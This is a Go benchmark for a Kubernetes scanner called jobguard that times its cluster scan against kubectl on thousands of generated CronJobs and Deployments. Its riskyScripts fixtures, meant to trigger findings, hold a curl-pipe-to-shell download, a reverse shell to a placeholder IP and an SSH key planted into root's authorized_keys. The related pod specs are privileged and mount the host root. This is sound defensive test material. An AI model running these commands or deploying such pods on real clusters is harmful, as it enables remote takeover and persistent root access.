// Package cluster_bench measures `jobguard scan --cluster -A` against the cost of just fetching
// the same objects with kubectl, on the real test control plane (internal/testcluster).
//
// It is a benchmark, not a test: it runs only with JOBGUARD_BENCH=1 (bench/cluster/run.sh sets
// it), so `go test ./...` skips it.
//
//	JOBGUARD_BENCH=1 go test ./bench/cluster -run TestClusterScan -v -timeout 30m \
//	    -args -cronjobs 5000 -deployments 5000 -runs 3
package cluster_bench

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	appsv1 "k8s.io/api/apps/v1"
	batchv1 "k8s.io/api/batch/v1"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"

	"github.com/jobguard/jobguard/internal/testcluster"
)

// benchEnv must be 1 for the benchmark to run.
const benchEnv = "JOBGUARD_BENCH"

var (
	nCronJobs    = flag.Int("cronjobs", 5000, "CronJobs to create")
	nDeployments = flag.Int("deployments", 5000, "Deployments to create")
	nNamespaces  = flag.Int("namespaces", 20, "namespaces to spread the objects over")
	runs         = flag.Int("runs", 3, "measured runs of each command (the median is compared)")
	workers      = flag.Int("workers", 32, "concurrent create requests")
	target       = flag.Float64("target", 1.5, "jobguard's wall time may be at most this many times kubectl's")
)

func TestMain(m *testing.M) {
	flag.Parse()
	testcluster.Main(m, testcluster.Options{})
}

// TestClusterScan creates the objects, then measures kubectl's fetch and jobguard's scan, runs
// times each, alternating, and compares the medians.
func TestClusterScan(t *testing.T) {
	if os.Getenv(benchEnv) != "1" {
		t.Skip("benchmark: set " + benchEnv + "=1")
	}
	kubectl, err := exec.LookPath("kubectl")
	if err != nil {
		t.Fatalf("kubectl is needed for the fetch baseline: %v", err)
	}
	bin := t.TempDir()
	jobguard := goBuild(t, bin, "./cmd/jobguard")
	measure := goBuild(t, bin, "./bench/measure")

	c := testcluster.Shared(t)
	cfg := c.AdminConfig()
	cfg.QPS, cfg.Burst = 2000, 4000
	cfg.WarningHandler = rest.NoWarnings{} // PSA warns about every risky object; that is expected
	client, err := kubernetes.NewForConfig(cfg)
	if err != nil {
		t.Fatal(err)
	}
	ctx := context.Background()
	began := time.Now()
	if err := populate(ctx, client, *nNamespaces, *nCronJobs, *nDeployments, *workers); err != nil {
		t.Fatal(err)
	}
	created := time.Since(began)
	total := *nCronJobs + *nDeployments
	t.Logf("created %d CronJobs and %d Deployments in %d namespaces in %v (%.0f objects/s)",
		*nCronJobs, *nDeployments, *nNamespaces, created.Round(time.Millisecond), float64(total)/created.Seconds())

	kc := c.Kubeconfig()
	kubectlArgs := []string{kubectl, "--kubeconfig", kc, "get", "cronjobs,deployments", "-A", "-o", "json"}
	// Informational: the same two lists fetched raw, without decoding or printing, shows how much
	// of kubectl's time is the API server's.
	rawArgs := []string{"/bin/sh", "-c", fmt.Sprintf("%[1]s --kubeconfig %[2]s get --raw /apis/batch/v1/cronjobs >/dev/null && "+
		"%[1]s --kubeconfig %[2]s get --raw /apis/apps/v1/deployments >/dev/null", kubectl, kc)}
	jobguardArgs := []string{jobguard, "scan", "--cluster", "--kubeconfig", kc, "-A", "-o", "json", "--fail-on", "none"}

	// One unmeasured run of each checks what they return and warms the API server's caches.
	if n := kubectlItems(t, kubectlArgs); n != total {
		t.Fatalf("kubectl listed %d objects, want %d", n, total)
	}
	sum := jobguardSummary(t, jobguardArgs)
	t.Logf("jobguard judged %d resources: %d findings %v", sum.Resources, sum.Findings, sum.BySeverity)
	if sum.Resources < total {
		t.Fatalf("jobguard judged %d resources, want at least %d", sum.Resources, total)
	}
	if sum.Incomplete {
		t.Fatal("jobguard says its scan is incomplete")
	}

	var rawRes, kubectlRes, jobguardRes []result
	for i := 0; i < *runs; i++ {
		rawRes = append(rawRes, measured(t, measure, "kubectl get --raw (2 lists)", rawArgs))
		kubectlRes = append(kubectlRes, measured(t, measure, "kubectl get -o json", kubectlArgs))
		jobguardRes = append(jobguardRes, measured(t, measure, "jobguard scan --cluster", jobguardArgs))
	}

	var b strings.Builder
	fmt.Fprintf(&b, "\n%d CronJobs + %d Deployments in %d namespaces, %d runs each (load: %s)\n",
		*nCronJobs, *nDeployments, *nNamespaces, *runs, loadAverage())
	fmt.Fprintf(&b, "%-28s %12s %12s %12s %12s\n", "command", "median s", "min s", "max s", "peak MB")
	for _, rs := range [][]result{rawRes, kubectlRes, jobguardRes} {
		med, lo, hi, rss := stats(rs)
		fmt.Fprintf(&b, "%-28s %12.3f %12.3f %12.3f %12.1f\n", rs[0].label, med, lo, hi, rss)
	}
	km, _, _, krss := stats(kubectlRes)
	jm, _, _, jrss := stats(jobguardRes)
	ratio := jm / km
	verdict := "met"
	if ratio > *target {
		verdict = "NOT met"
	}
	fmt.Fprintf(&b, "jobguard / kubectl: %.2fx time, %.2fx peak memory; target <= %.1fx time: %s\n",
		ratio, jrss/krss, *target, verdict)
	fmt.Print(b.String())
	if ratio > *target {
		t.Errorf("jobguard took %.2fx kubectl's fetch, target %.1fx", ratio, *target)
	}
}

// goBuild builds the package pkg of the module into dir and returns the binary's path.
func goBuild(t *testing.T, dir, pkg string) string {
	t.Helper()
	out := filepath.Join(dir, filepath.Base(pkg))
	cmd := exec.Command("go", "build", "-o", out, pkg)
	cmd.Dir = moduleRoot(t)
	cmd.Env = append(os.Environ(), "GOFLAGS=-buildvcs=false")
	if b, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("go build %s: %v\n%s", pkg, err, b)
	}
	return out
}

func moduleRoot(t *testing.T) string {
	t.Helper()
	dir, err := filepath.Abs("../..")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(filepath.Join(dir, "go.mod")); err != nil {
		t.Fatalf("module root not found from %s: %v", dir, err)
	}
	return dir
}

// populate creates the namespaces (with every Pod Security level among their labels) and the
// objects, workers at a time. A create that the API server turns away for load is retried.
func populate(ctx context.Context, client kubernetes.Interface, namespaces, cronjobs, deployments, workers int) error {
	levels := []string{"restricted", "baseline", "privileged", ""}
	for i := 0; i < namespaces; i++ {
		ns := &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: nsName(i)}}
		if l := levels[i%len(levels)]; l != "" {
			ns.Labels = map[string]string{"pod-security.kubernetes.io/enforce": l}
		}
		if _, err := client.CoreV1().Namespaces().Create(ctx, ns, metav1.CreateOptions{}); err != nil && !apierrors.IsAlreadyExists(err) {
			return fmt.Errorf("creating namespace %s: %w", ns.Name, err)
		}
	}
	jobs := make(chan func() error)
	var (
		wg       sync.WaitGroup
		firstErr atomic.Pointer[error]
	)
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for job := range jobs {
				if firstErr.Load() != nil {
					continue
				}
				if err := retry(job); err != nil {
					firstErr.CompareAndSwap(nil, &err)
				}
			}
		}()
	}
	for i := 0; i < cronjobs; i++ {
		cj := cronJob(i, nsName(i%namespaces))
		jobs <- func() error {
			_, err := client.BatchV1().CronJobs(cj.Namespace).Create(ctx, cj, metav1.CreateOptions{})
			return ignoreExists(err, "CronJob", cj.Namespace, cj.Name)
		}
	}
	for i := 0; i < deployments; i++ {
		d := deployment(i, nsName(i%namespaces))
		jobs <- func() error {
			_, err := client.AppsV1().Deployments(d.Namespace).Create(ctx, d, metav1.CreateOptions{})
			return ignoreExists(err, "Deployment", d.Namespace, d.Name)
		}
	}
	close(jobs)
	wg.Wait()
	if p := firstErr.Load(); p != nil {
		return *p
	}
	return nil
}

func nsName(i int) string { return fmt.Sprintf("bench-%03d", i) }

func ignoreExists(err error, kind, ns, name string) error {
	if err == nil || apierrors.IsAlreadyExists(err) {
		return nil
	}
	return fmt.Errorf("creating %s %s/%s: %w", kind, ns, name, err)
}

func retry(f func() error) error {
	var err error
	for attempt := 0; attempt < 6; attempt++ {
		if err = f(); err == nil {
			return nil
		}
		var status apierrors.APIStatus
		if !errors.As(err, &status) || !(apierrors.IsTooManyRequests(err) || apierrors.IsServerTimeout(err) ||
			apierrors.IsTimeout(err) || apierrors.IsInternalError(err)) {
			return err
		}
		time.Sleep(time.Duration(100<<attempt) * time.Millisecond)
	}
	return err
}

// The objects: most are ordinary, about one in five carries an attack indicator, so the scan
// does the work of a real cluster (findings to format), not just of clean objects.
var (
	cleanImages = []string{
		"registry.example.com/shop/backup:1.4.2@sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
		"ghcr.io/acme/worker:2.0.1",
		"postgres:16.4",
	}
	cleanScripts = []string{
		"pg_dump --host=db.shop.svc shop | gzip > /backup/shop.sql.gz",
		"find /data -mtime +7 -delete",
		"curl -fsS -X POST http://report.ops.svc.cluster.local/run",
	}
	riskyScripts = []string{
		"curl -s http://203.0.113.7/i.sh | sh",
		"echo aGVsbG8K | base64 -d | bash",
		"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
		"chroot /host sh -c 'echo ssh-ed25519 AAAA >> /root/.ssh/authorized_keys'",
	}
)

func podSpec(i int) corev1.PodSpec {
	risky := i%5 == 0
	f := false
	t := true
	uid := int64(10001)
	c := corev1.Container{
		Name:    "main",
		Image:   cleanImages[i%len(cleanImages)],
		Command: []string{"/bin/sh", "-c", cleanScripts[i%len(cleanScripts)]},
		SecurityContext: &corev1.SecurityContext{
			AllowPrivilegeEscalation: &f,
			RunAsNonRoot:             &t,
			RunAsUser:                &uid,
			Capabilities:             &corev1.Capabilities{Drop: []corev1.Capability{"ALL"}},
			SeccompProfile:           &corev1.SeccompProfile{Type: corev1.SeccompProfileTypeRuntimeDefault},
		},
		Resources: corev1.ResourceRequirements{},
	}
	spec := corev1.PodSpec{
		AutomountServiceAccountToken: &f,
		Containers:                   []corev1.Container{c},
	}
	if risky {
		spec.Containers[0].Image = "alpine:latest"
		spec.Containers[0].Command = []string{"/bin/sh", "-c", riskyScripts[(i/5)%len(riskyScripts)]}
		spec.Containers[0].SecurityContext = &corev1.SecurityContext{Privileged: &t}
		spec.HostPID = true
		spec.Volumes = []corev1.Volume{{Name: "host", VolumeSource: corev1.VolumeSource{
			HostPath: &corev1.HostPathVolumeSource{Path: "/"}}}}
		spec.Containers[0].VolumeMounts = []corev1.VolumeMount{{Name: "host", MountPath: "/host"}}
		spec.AutomountServiceAccountToken = nil
	}
	return spec
}

func cronJob(i int, ns string) *batchv1.CronJob {
	spec := podSpec(i)
	spec.RestartPolicy = corev1.RestartPolicyOnFailure
	schedules := []string{"0 3 * * *", "*/15 * * * *", "30 1 * * 0", "* * * * *"}
	return &batchv1.CronJob{
		ObjectMeta: metav1.ObjectMeta{Name: fmt.Sprintf("job-%05d", i), Namespace: ns,
			Labels: map[string]string{"app": "batch", "team": fmt.Sprintf("t%d", i%7)}},
		Spec: batchv1.CronJobSpec{
			Schedule:          schedules[i%len(schedules)],
			ConcurrencyPolicy: batchv1.ForbidConcurrent,
			JobTemplate: batchv1.JobTemplateSpec{Spec: batchv1.JobSpec{
				Template: corev1.PodTemplateSpec{Spec: spec},
			}},
		},
	}
}

func deployment(i int, ns string) *appsv1.Deployment {
	name := fmt.Sprintf("web-%05d", i)
	labels := map[string]string{"app": name}
	one := int32(1)
	return &appsv1.Deployment{
		ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: ns, Labels: map[string]string{"team": fmt.Sprintf("t%d", i%7)}},
		Spec: appsv1.DeploymentSpec{
			Replicas: &one,
			Selector: &metav1.LabelSelector{MatchLabels: labels},
			Template: corev1.PodTemplateSpec{
				ObjectMeta: metav1.ObjectMeta{Labels: labels},
				Spec:       podSpec(i + 1),
			},
		},
	}
}

// result is one line of bench/measure.
type result struct {
	label      string
	secs, rssM float64
}

func measured(t *testing.T, measure, label string, args []string) result {
	t.Helper()
	cmd := exec.Command(measure, append([]string{"-runs", "1", "-label", label, "--"}, args...)...)
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	out, err := cmd.Output()
	if err != nil {
		t.Fatalf("measure %s: %v\n%s", label, err, stderr.String())
	}
	f := strings.Split(strings.TrimSpace(string(out)), "\t")
	if len(f) != 4 {
		t.Fatalf("measure %s: unexpected output %q", label, out)
	}
	if f[3] != "0" {
		t.Fatalf("%s exited %s:\n%s", label, f[3], stderr.String())
	}
	secs, err1 := strconv.ParseFloat(f[1], 64)
	rss, err2 := strconv.ParseFloat(f[2], 64)
	if err1 != nil || err2 != nil {
		t.Fatalf("measure %s: unexpected output %q", label, out)
	}
	return result{label: label, secs: secs, rssM: rss}
}

// stats returns the median, min and max seconds and the largest peak RSS.
func stats(rs []result) (med, lo, hi, rss float64) {
	s := make([]float64, len(rs))
	for i, r := range rs {
		s[i] = r.secs
		rss = max(rss, r.rssM)
	}
	sort.Float64s(s)
	n := len(s)
	med = s[n/2]
	if n%2 == 0 {
		med = (s[n/2-1] + s[n/2]) / 2
	}
	return med, s[0], s[n-1], rss
}

func kubectlItems(t *testing.T, args []string) int {
	t.Helper()
	out := run(t, args, nil)
	var list struct {
		Items []json.RawMessage `json:"items"`
	}
	if err := json.Unmarshal(out, &list); err != nil {
		t.Fatalf("kubectl output is not a list: %v", err)
	}
	return len(list.Items)
}

type summary struct {
	Resources  int            `json:"resources"`
	Findings   int            `json:"findings"`
	BySeverity map[string]int `json:"bySeverity"`
	Incomplete bool           `json:"incomplete"`
}

func jobguardSummary(t *testing.T, args []string) summary {
	t.Helper()
	out := run(t, args, nil)
	var rep struct {
		Summary summary `json:"summary"`
	}
	if err := json.Unmarshal(out, &rep); err != nil {
		t.Fatalf("jobguard output is not a JSON report: %v", err)
	}
	return rep.Summary
}

func run(t *testing.T, args, env []string) []byte {
	t.Helper()
	cmd := exec.Command(args[0], args[1:]...)
	cmd.Env = append(os.Environ(), env...)
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	out, err := cmd.Output()
	if err != nil {
		t.Fatalf("%s: %v\n%s", strings.Join(args, " "), err, stderr.String())
	}
	return out
}

func loadAverage() string {
	b, err := os.ReadFile("/proc/loadavg")
	if err != nil {
		return "unknown"
	}
	f := strings.Fields(string(b))
	if len(f) < 3 {
		return "unknown"
	}
	return strings.Join(f[:3], " ")
}
